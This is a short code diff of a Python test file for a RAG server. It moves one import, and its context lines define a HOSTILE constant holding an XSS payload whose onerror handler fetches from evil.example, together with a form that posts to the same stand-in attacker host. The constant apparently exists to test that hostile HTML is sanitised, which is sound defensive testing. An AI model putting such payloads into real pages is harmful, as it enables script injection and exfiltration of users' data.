@@ -19,7 +19,8 @@ from types import SimpleNamespace
 from browser import free_port, served
 
 from rag.errors import GenerateError
-from rag.records import Answer, Citation, Document, Hit, Provision, Removed, Sentence, Update, article_of
+from rag.labels import article_of
+from rag.records import Answer, Citation, Document, Hit, Provision, Removed, Sentence, Update
 from rag.serve import serve
 
 HOSTILE = '<img src=x onerror="fetch(\'http://evil.example/a\')"><form action="http://evil.example/f">' + (
